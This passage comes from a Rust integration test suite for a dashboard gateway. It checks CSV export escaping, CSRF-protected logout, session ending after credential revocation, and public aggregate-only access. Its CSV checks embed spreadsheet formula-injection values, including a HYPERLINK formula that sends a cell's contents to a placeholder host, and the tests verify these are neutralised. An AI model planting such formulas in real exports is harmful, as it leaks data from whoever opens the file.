    let csv = get(addr, "/api/v1/reports.csv", &cookie).await.text();
    let row = csv
        .lines()
        .find(|line| line.starts_with(&stored.name))
        .unwrap_or_else(|| panic!("{} in {csv}", stored.name));
    assert!(
        row.ends_with("\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"详情\"\")\""),
        "{row}"
    );

    // Sign-out needs the page's CSRF token; then the session is over.
    let page = get(addr, "/", &cookie).await.text();
    let token = logout_csrf(&page);
    for wrong in ["", "not-the-token"] {
        let refused = post_form(addr, "/logout", &[("csrf", wrong)], &cookie).await;
        assert_eq!(refused.status, 403, "{wrong:?}");
        assert_eq!(
            get(addr, "/api/v1/alerts", &cookie).await.status,
            200,
            "still signed in"
        );
    }
    let out = post_form(addr, "/logout", &[("csrf", &token)], &cookie).await;
    assert!(is_login_redirect(&out), "{} {:?}", out.status, out.headers);
    let cleared = cookie_set(&out, "duban_session").expect("the cookie is cleared");
    assert!(has_attribute(&cleared, "Max-Age=0"), "{cleared:?}");
    assert!(is_login_redirect(&get(addr, "/", &cookie).await));
    assert_eq!(get(addr, "/api/v1/reports.csv", &cookie).await.status, 401);

    // A revoked credential ends its session within the revocation window (1 s here).
    let issued = suite
        .departments(common::Caller::Admin)
        .issue_credential(duban_proto::departments::v1::IssueCredentialRequest {
            credential: Some(duban_proto::departments::v1::Credential {
                role: Role::Leadership as i32,
                description: "signs in, then is revoked".into(),
                ..Default::default()
            }),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    let session = sign_in(addr, &issued.token, &[]).await;
    let cookie = [("Cookie", session[0].as_str())];
    assert_eq!(get(addr, "/api/v1/alerts", &cookie).await.status, 200);
    let closing = [cookie[0], ("Connection", "close")];
    let (status, _, mut events) = EventStream::open(addr, "/api/v1/events", &closing).await;
    assert_eq!(status, 200);
    suite
        .departments(common::Caller::Admin)
        .revoke_credential(duban_proto::departments::v1::RevokeCredentialRequest {
            name: issued.credential.unwrap().name,
            request_id: uuid::Uuid::new_v4().to_string(),
        })
        .await
        .unwrap();
    let revoked = std::time::Instant::now();
    loop {
        let answer = get(addr, "/api/v1/alerts", &cookie).await;
        if answer.status == 401 {
            break;
        }
        assert_eq!(answer.status, 200);
        assert!(
            revoked.elapsed() < Duration::from_secs(3),
            "the session outlived the revocation window"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(is_login_redirect(&get(addr, "/", &cookie).await));
    // ... and its open event stream ends, though no report changed.
    let ended = tokio::time::timeout(Duration::from_secs(15), async {
        let mut buffer = [0u8; 4096];
        loop {
            match events.stream.read(&mut buffer).await {
                Ok(0) | Err(_) => break,
                Ok(_) => {}
            }
        }
    })
    .await;
    assert!(ended.is_ok(), "the event stream of a revoked session ends");
    suite.stop().await;
}

async fn public_access_serves_only_aggregates(backend: Backend) {
    let Some(suite) = Suite::builder(backend)
        .all()
        .configure(|settings| settings.gateway.dashboard_access = DashboardAccess::Public)
        .start()
        .await
    else {
        return;
    };
    let addr = suite.addr(Server::Gateway);
    let stored = submit_with_narrative(&suite, "@SUM(1+1) 进展顺利").await;

    // The aggregate figures are open, without a single unit in them.
    let answer = get(addr, "/api/v1/overview", &[]).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let json: Value = serde_json::from_slice(&answer.body).unwrap();
    assert_eq!(json["actions"].as_array().unwrap().len(), 10);
    let measures = json["measures"].as_array().unwrap();
    assert!(
        measures.iter().all(|m| m["units"].as_array().unwrap().is_empty()),
        "{json}"
    );
    assert!(
        json["compliance"]["late_units"].as_array().unwrap().is_empty(),
        "{json}"
    );
    assert!(!answer.text().contains(&stored.department), "no unit is named");
    let page = get(addr, "/", &[]).await;
    assert_eq!(page.status, 200);
    assert_security_headers(&page, "/");
    let text = page.text();
    assert!(
        text.contains("id=\"public-note\"") && text.contains("id=\"sign-in\""),
        "{text}"
    );
    for absent in [
        "id=\"heatmap\"",
        "id=\"alerts\"",
        "/api/v1/reports.csv",
        "id=\"logout\"",
    ] {
        assert!(!text.contains(absent), "{absent} on the public page");
    }
    assert_eq!(get(addr, "/api/v1/overview.csv", &[]).await.status, 200);
    let (status, _, mut events) = EventStream::open(addr, "/api/v1/events", &[]).await;
    assert_eq!(status, 200);
    let first = events.wait_for(Duration::from_secs(15), |_| true).await;
    assert_eq!(first["changed_reports"], Value::Array(vec![]), "{first}");
    drop(events);

    // Everything else still needs a sign-in.
    for path in ["/measures/4.2", "/departments/anting-town"] {
        assert!(is_login_redirect(&get(addr, path, &[]).await), "{path}");
    }
    for path in [
        "/api/v1/reports.csv",
        "/api/v1/measures/4.2",
        "/api/v1/departments/anting-town",
        "/api/v1/alerts",
    ] {
        assert_eq!(get(addr, path, &[]).await.status, 401, "{path}");
    }
    // A signed-in reader gets the whole overview.
    let leadership = suite.issue_token(Role::Leadership, "").await;
    let session = sign_in(addr, &leadership, &[]).await;
    let cookie = [("Cookie", session[0].as_str())];
    let full: Value = serde_json::from_slice(&get(addr, "/api/v1/overview", &cookie).await.body).unwrap();
    assert!(
        full["measures"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| !m["units"].as_array().unwrap().is_empty()),
        "{full}"
    );
    let csv = get(addr, "/api/v1/reports.csv", &cookie).await.text();
    assert!(csv.contains("'@SUM(1+1) 进展顺利"), "{csv}");
    suite.stop().await;
}

duban_kit::backend_tests!(
    grpc_web_and_reflection,
    live_events_follow_reports,
    dashboard_asks_who_you_are,
    public_access_serves_only_aggregates
);
